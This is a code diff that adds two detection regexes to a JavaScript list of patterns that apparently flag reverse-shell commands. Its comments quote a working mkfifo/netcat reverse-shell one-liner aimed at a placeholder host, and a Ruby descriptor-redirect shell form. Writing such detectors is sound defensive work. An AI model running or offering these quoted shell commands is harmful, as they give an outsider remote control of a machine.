@@ -31,6 +31,11 @@ const ONE_LINE_MORE = [
   String.raw`\bxterm\b[^\n]{0,40}\s-display\s+(?!127\.)\d{1,3}(?:\.\d{1,3}){3}:\d{1,2}\b`,
   // A shell payload built for a named host (msfvenom's LHOST); a placeholder (`LHOST=<ip>`, `$IP`) names nobody.
   String.raw`\bmsfvenom\b[^\n]{0,200}(?:reverse|bind|meterpreter)[^\n]{0,200}\bLHOST=(?!localhost\b|127\.|0\.0\.0\.0\b)[\w-]{1,63}(?:\.[\w-]{1,63})+`,
+  // Round 28: an interactive shell's output piped into a network client on its own line, the named pipe made on
+  // the line before (`mkfifo /tmp/f` then `cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f`).
+  String.raw`\b(?:ba|z|k|da)?sh\s+-i\b[^\n|]{0,120}\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client)\s`,
+  // Round 28: the socket's descriptor given by a format or a variable (Ruby's `sprintf('/bin/sh -i <&%d >&%d', f, f)`).
+  String.raw`\b(?:ba|z|k|da)?sh\s+-i\s*<&\s*(?:%d|\{\w{0,20}\}|\$\{?\w{1,20}\}?|#\{\w{1,20}\})\s*>&`,
   // A service that answers with a reverse shell to the host and port in its path, piped into a shell.
   String.raw`\breverse-shell\.sh\/[\w.-]{1,253}:\d{1,5}`,
 ].join("|");
